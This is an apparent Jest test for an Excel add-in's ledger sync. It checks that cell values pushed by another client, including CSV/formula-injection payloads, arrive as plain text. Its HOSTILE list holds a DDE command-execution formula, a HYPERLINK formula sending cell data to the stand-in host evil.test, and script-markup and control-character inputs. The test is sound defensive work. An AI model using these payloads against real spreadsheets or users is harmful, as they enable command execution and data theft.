/** What others wrote, however it is meant to be read by Excel, arrives in my sheet as the text it is. */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { type RunningBackend, startBackend } from '#cli/server/start-backend';
import { connectTo } from '#addin/api/api-client';
import { PROTOCOL_VERSION } from '#core/protocol/protocol-version';
import { ExcelClerk, type Shown } from './excel-clerk';

const YEARS = '绵阳市司法局2023四个项目年台账.xlsx';
const SAMPLE = readFileSync(path.resolve('samples', YEARS));
const LEDGER = 'institution-building-2023';
const RULES = '制度建设规范年';
/** 制度建设规范年: 存在问题 stands in column J, tokens in P; rows begin at row 4. */
const [PROBLEM, TOKEN, FIRST] = [9, 15, 3];

const HOSTILE: readonly (readonly [string, string])[] = [
  ['a command', "=cmd|' /C calc'!A0"],
  ['a link', '=HYPERLINK("http://evil.test/?"&A1,"点这里")'],
  ['a sum', '=1+1'],
  ['a full-width formula', '＝1+1'],
  ['a plus', '+1+1'],
  ['a minus', '-2+3'],
  ['an at sign', '@SUM(1,1)'],
  ['a formula behind a tab', '\t=1+1'],
  ['a formula behind a return', '\r=1+1'],
  ['a formula with words', '=办公室+1'],
  ['an apostrophe', "'=1+1"],
  ['a number that is a text', '007'],
  ['a date', '2023/6/30'],
  ['a truth', 'TRUE'],
  ['an error', '#REF!'],
  ['markup', '<img src=x onerror="hacked=1"><script>hacked=1</script>'],
  ['null characters', '甲\u0000乙\u0001'],
  ['marks that turn the line', '甲\u202e乙\u2066丙'],
  ['emoji', '完成👨‍👩‍👧🇨🇳'],
  ['10,000 lines', '行\n'.repeat(10_000).trim()],
  ['as much as a cell holds', '字'.repeat(32_767)],
];

let backend: RunningBackend;
let ids = 0;
beforeAll(async () => {
  backend = await startBackend();
});
afterAll(() => backend.stop());

const outcomes = ({ settled }: Shown): Record<string, number> =>
  Object.fromEntries(settled.groups.map(({ outcome, rows }) => [outcome, rows.length]));

it('is written as text, and comes to rest', async () => {
  const mine = await ExcelClerk.open(SAMPLE, YEARS, () => `id${++ids}`);
  await mine.sync(LEDGER, backend);
  const { rows, rev } = await connectTo(backend).readLedger(LEDGER);
  // Not typed into a sheet: whoever has an access token can send it without Excel.
  const token = (row: number) => String(mine.cell(RULES, row, TOKEN)).split('.')[0];
  const changes = HOSTILE.map(([, text], index) => {
    const row = rows.find(({ rowId }) => rowId === token(FIRST + index));
    if (!row) throw new Error('no such row');
    return { rowId: row.rowId, baseRev: row.rev, fields: { ...row.fields, problem: text } };
  });
  for (const [index, change] of changes.entries())
    await connectTo(backend).syncLedger(LEDGER, {
      ...{
        protocol: PROTOCOL_VERSION,
        clientId: 'evil',
        mutationId: `evil${index}`,
        since: rev,
        changes: [change],
      },
    });
  const shown = await mine.sync(LEDGER, backend);
  expect(shown.settled.problem).toBeUndefined();
  const cells = HOSTILE.map(([what], index) => {
    const cell = mine.book.sheet(RULES)?.cell(FIRST + index, PROBLEM);
    return [what, cell?.value, cell?.formula];
  });
  expect(cells).toEqual(HOSTILE.map(([what, text]) => [what, text, undefined]));
  // What no sheet would have sent, such as a leading tab, goes back once as sheets write it.
  await mine.sync(LEDGER, backend);
  expect(outcomes(await mine.sync(LEDGER, backend))).toEqual({ unchanged: 38 });
});
